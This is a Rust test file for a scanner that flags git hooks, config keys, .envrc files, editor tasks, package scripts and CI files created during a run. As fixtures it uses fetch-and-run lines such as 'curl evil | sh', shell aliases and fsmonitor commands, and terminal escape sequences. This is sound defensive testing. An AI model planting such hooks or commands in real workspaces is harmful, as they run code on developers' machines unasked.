//! The scanner over synthesized workspaces: what was made before `since` is never reported,
//! what was made after is, each with its exact vector, file and key.

use super::*;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::symlink;
use std::time::SystemTime;

/// A workspace whose `before` contents are older than the returned `since`.
fn workspace(before: impl FnOnce(&Path)) -> (tempfile::TempDir, SystemTime) {
    let t = tempfile::tempdir().unwrap();
    before(t.path());
    // Past SINCE_SLACK, so what `before` made reads as older than the run.
    std::thread::sleep(SINCE_SLACK * 2);
    (t, SystemTime::now())
}

fn write(p: &Path, text: &str) {
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, text).unwrap();
}

fn gitdir(d: &Path, config: &str) {
    for sub in ["objects", "refs/heads", "hooks"] {
        fs::create_dir_all(d.join(sub)).unwrap();
    }
    write(&d.join("HEAD"), "ref: refs/heads/main\n");
    write(&d.join("config"), config);
    write(&d.join("hooks/pre-commit.sample"), "#!/bin/sh\nexit 0\n");
}

/// (vector, file relative to the workspace, key) of each finding.
fn summary(ws: &Path, since: SystemTime) -> Vec<(&'static str, String, String)> {
    scan(ws, since)
        .into_iter()
        .map(|f| {
            (
                f.vector,
                f.file.strip_prefix(ws).unwrap().display().to_string(),
                f.key,
            )
        })
        .collect()
}

fn row(v: &'static str, file: &str, key: &str) -> (&'static str, String, String) {
    (v, file.to_string(), key.to_string())
}

#[test]
fn config_keys_and_hooks_made_during_the_run_are_reported_older_ones_are_not() {
    let (t, since) = workspace(|ws| {
        gitdir(&ws.join("old/.git"), "[core]\n\tfsmonitor = old-cmd\n");
        write(&ws.join("old/.git/hooks/post-checkout"), "#!/bin/sh\nold\n");
    });
    let ws = t.path();
    gitdir(
        &ws.join("new/.git"),
        "[CORE]   FsMonitor = \"touch /tmp/x; false\"\n[alias]\n st = status\n x = !sh\n",
    );
    write(&ws.join("new/.git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n");
    assert_eq!(
        summary(ws, since),
        vec![
            row("git-config", "new/.git/config", "alias.x"),
            row("git-config", "new/.git/config", "core.fsmonitor"),
            row("git-hook", "new/.git/hooks/pre-commit", "pre-commit"),
        ]
    );
    let f = scan(ws, since);
    assert_eq!(f[1].value_preview, "touch /tmp/x; false");
    let cfg = ws.join("new/.git/config");
    assert_eq!(
        f[1].inspect,
        format!(
            "git config --file '{}' --unset-all 'core.fsmonitor'",
            cfg.display()
        )
    );
    assert_eq!(f[2].value_preview, "curl evil");
}

#[test]
fn a_changed_config_is_reported_even_with_its_mtime_set_back() {
    let (t, since) = workspace(|ws| gitdir(&ws.join("r/.git"), "[user]\n name = a\n"));
    let cfg = t.path().join("r/.git/config");
    let old = fs::metadata(&cfg).unwrap().modified().unwrap();
    fs::OpenOptions::new()
        .append(true)
        .open(&cfg)
        .unwrap()
        .write_all(b"[core]\nhooksPath = /tmp/h\n")
        .unwrap();
    fs::File::options()
        .write(true)
        .open(&cfg)
        .unwrap()
        .set_modified(old)
        .unwrap();
    assert_eq!(
        summary(t.path(), since),
        vec![row("git-config", "r/.git/config", "core.hookspath")]
    );
}

use std::io::Write;

#[test]
fn a_gitdir_by_any_name_and_symlinks_in_place_of_files() {
    let (t, since) = workspace(|_| {});
    let ws = t.path();
    gitdir(&ws.join(".g"), "[filter \"x\"]\n\tclean = sh -c id\n");
    write(&ws.join(".git"), "gitdir: .g\n");
    symlink("/etc/hostname", ws.join(".envrc")).unwrap();
    fs::create_dir(ws.join("s")).unwrap();
    symlink("/var/tmp/repo/.git", ws.join("s/.git")).unwrap();
    assert_eq!(
        summary(ws, since),
        vec![
            row("envrc", ".envrc", "symlink"),
            row("git-config", ".g/config", "filter.x.clean"),
            row("gitdir-pointer", "s/.git", "symlink"),
        ]
    );
}

#[test]
fn a_gitdir_pointer_out_of_the_workspace_is_reported() {
    let (t, since) = workspace(|_| {});
    write(&t.path().join("a/.git"), "gitdir: ../../../elsewhere/.git\n");
    write(&t.path().join("b/.git"), "gitdir: ../.g\n");
    assert_eq!(
        summary(t.path(), since),
        vec![row("gitdir-pointer", "a/.git", "gitdir")]
    );
}

#[test]
fn a_gitlink_into_a_repository_with_a_finding_is_reported_into_a_clean_one_is_not() {
    let (t, since) = workspace(|ws| {
        gitdir(&ws.join(".git"), "[core]\n\tbare = false\n");
        gitdir(&ws.join("clean/.git"), "");
    });
    let ws = t.path();
    gitdir(&ws.join("evil/.git"), "[core]\nfsmonitor = x\n");
    let idx = index::tests::build(2, &[(0o160000, "clean"), (0o160000, "evil"), (0o100644, "f")]);
    fs::write(ws.join(".git/index"), idx).unwrap();
    assert_eq!(
        summary(ws, since),
        vec![
            row("gitlink", ".git/index", "evil"),
            row("git-config", "evil/.git/config", "core.fsmonitor")
        ]
    );
}

#[test]
fn a_gitlink_in_a_skipped_directory_is_still_followed() {
    let (t, since) = workspace(|ws| gitdir(&ws.join(".git"), ""));
    let ws = t.path();
    gitdir(&ws.join("node_modules/x/.git"), "[core]\npager = evil\n");
    fs::write(
        ws.join(".git/index"),
        index::tests::build(4, &[(0o160000, "node_modules/x")]),
    )
    .unwrap();
    assert_eq!(
        summary(ws, since),
        vec![
            row("gitlink", ".git/index", "node_modules/x"),
            row("git-config", "node_modules/x/.git/config", "core.pager")
        ]
    );
}

#[test]
fn workspace_files_made_during_the_run() {
    let (t, since) = workspace(|ws| {
        write(&ws.join("old/.envrc"), "export X=1\n");
        write(
            &ws.join("old/package.json"),
            r#"{"scripts":{"postinstall":"old"}}"#,
        );
    });
    let ws = t.path();
    write(&ws.join(".envrc"), "curl evil | sh\n");
    write(
        &ws.join(".vscode/tasks.json"),
        "{ // c\n \"tasks\": [{\"label\": \"a\", \"command\": \"id\",},]}",
    );
    write(
        &ws.join(".vscode/settings.json"),
        r#"{"editor.formatOnSave": true, "git.path": "/tmp/g"}"#,
    );
    write(
        &ws.join("package.json"),
        r#"{"scripts":{"test":"jest","postinstall":"node x.js"}}"#,
    );
    write(
        &ws.join(".gitattributes"),
        "*.txt diff=python\n* filter=evil\n*.bin filter=lfs diff=lfs merge=lfs\n",
    );
    write(
        &ws.join(".gitmodules"),
        "[submodule \"s\"]\n\tpath = s\n\turl = ../s\n\tupdate = !sh x\n",
    );
    write(&ws.join("Makefile"), "all:\n\ttrue\n");
    write(
        &ws.join("Cargo.toml"),
        "[package]\nname = \"x\"\nbuild = \"gen.rs\"\n",
    );
    write(
        &ws.join("pyproject.toml"),
        "[build-system]\nbuild-backend = \"b\"\nbackend-path = [\".\"]\n",
    );
    write(&ws.join(".github/workflows/ci.yml"), "on: push\n");
    write(
        &ws.join(".gitlab-ci.yml"),
        "test:\n  script:\n    - curl -s http://127.0.0.1:9/x | sh\n",
    );
    assert_eq!(
        summary(ws, since),
        vec![
            row("envrc", ".envrc", ""),
            row("gitattributes", ".gitattributes", "filter=evil"),
            row("build-file", ".github/workflows/ci.yml", ""),
            row("build-fetch-exec", ".gitlab-ci.yml", "line 3"),
            row("gitmodules", ".gitmodules", "submodule.s.update"),
            row("editor-settings", ".vscode/settings.json", "git.path"),
            row("editor-task", ".vscode/tasks.json", "tasks[0]"),
            row("package-script", "Cargo.toml", "package.build"),
            row("build-file", "Makefile", ""),
            row("package-script", "package.json", "scripts.postinstall"),
            row("package-script", "pyproject.toml", "build-system.backend-path"),
        ]
    );
}

#[test]
fn control_bytes_never_reach_the_report() {
    let (t, since) = workspace(|_| {});
    let ws = t.path();
    gitdir(
        &ws.join("r\x1b[2J/.git"),
        "[core]\n\tpager = \"less\\n\x1b]0;pwn\x07\"\n",
    );
    // A name that is not UTF-8 is walked like any other.
    let odd = ws.join(std::ffi::OsStr::from_bytes(b"x\xff"));
    gitdir(&odd.join(".git"), "");
    write(&odd.join(".git/hooks/post-merge"), "#!/bin/sh\n");
    let f = scan(ws, since);
    assert_eq!(f.len(), 2, "{f:?}");
    assert_eq!(f[1].file, odd.join(".git/hooks/post-merge"));
    assert!(
        f[1].inspect.starts_with("rm $'") && f[1].inspect.contains("x\\xff/"),
        "{}",
        f[1].inspect
    );
    assert_eq!(f[0].value_preview, "less\\x0a\\x1b]0;pwn\\x07");
    assert!(
        f[0].inspect.contains("r\\x1b[2J/.git/config'") && f[0].inspect.starts_with("git config --file $'")
    );
    for s in [&f[0].value_preview, &f[0].inspect, &f[0].key] {
        assert!(!s.bytes().any(|b| b < 0x20 || b == 0x7f), "{s:?}");
    }
}

#[test]
fn a_cut_walk_says_so() {
    let (t, since) = workspace(|_| {});
    for i in 0..20 {
        fs::create_dir_all(t.path().join(format!("d{i}/e"))).unwrap();
    }
    let f = scan_with(
        t.path(),
        since,
        Limits {
            max_entries: 10,
            max_time: Duration::from_secs(5),
        },
    );
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!((f[0].vector, f[0].key.as_str()), ("scan-incomplete", "entries"));
    let f = scan_with(
        t.path(),
        since,
        Limits {
            max_entries: 1000,
            max_time: Duration::ZERO,
        },
    );
    assert_eq!((f[0].vector, f[0].key.as_str()), ("scan-incomplete", "time"));
}

#[test]
fn a_missing_workspace_is_incomplete_not_clean() {
    let f = scan(Path::new("/nonexistent/cordon-persist"), SystemTime::now());
    assert_eq!(f.len(), 1);
    assert_eq!(
        (f[0].vector, f[0].key.as_str()),
        ("scan-incomplete", "unreadable")
    );
}

#[test]
fn a_cache_marker_hides_a_directory_only_if_it_predates_the_run() {
    let (t, since) = workspace(|ws| {
        write(
            &ws.join("target/CACHEDIR.TAG"),
            "Signature: 8a477f597d28d172789f06886806bc55\n",
        )
    });
    let ws = t.path();
    write(&ws.join("target/.envrc"), "x\n");
    write(
        &ws.join(".vscode/CACHEDIR.TAG"),
        "Signature: 8a477f597d28d172789f06886806bc55\n",
    );
    write(
        &ws.join(".vscode/tasks.json"),
        r#"{"tasks": [{"command": "id"}]}"#,
    );
    assert_eq!(
        summary(ws, since),
        vec![row("editor-task", ".vscode/tasks.json", "tasks[0]")]
    );
}

#[test]
fn a_hook_added_under_an_older_hooks_path_is_reported() {
    let (t, since) = workspace(|ws| {
        gitdir(&ws.join(".git"), "[core]\n\thooksPath = .husky/_\n");
        write(&ws.join(".husky/_/h"), "#!/bin/sh\n");
    });
    let ws = t.path();
    write(&ws.join(".husky/pre-commit"), "curl evil | sh\n");
    assert_eq!(
        summary(ws, since),
        vec![row("git-hook", ".husky/pre-commit", "pre-commit")]
    );
}

#[test]
fn keys_and_the_display_line_are_escaped() {
    let (t, since) = workspace(|_| {});
    let ws = t.path().join("w\x1b]0;x\x07");
    write(
        &ws.join("package.json"),
        "{\"scripts\": {\"install\": \"a\", \"x\\u001b\": \"b\"}}",
    );
    write(&ws.join(".gitattributes"), "* filter=e\x1bvil\n");
    let f = scan(&ws, since);
    let keys: Vec<&str> = f.iter().map(|f| f.key.as_str()).collect();
    assert_eq!(keys, vec!["filter=e\\x1bvil", "scripts.install"]);
    for line in f.iter().map(ToString::to_string) {
        assert!(!line.bytes().any(|b| b < 0x20 || b == 0x7f), "{line:?}");
        assert!(line.contains("w\\x1b]0;x\\x07"), "{line}");
    }
}
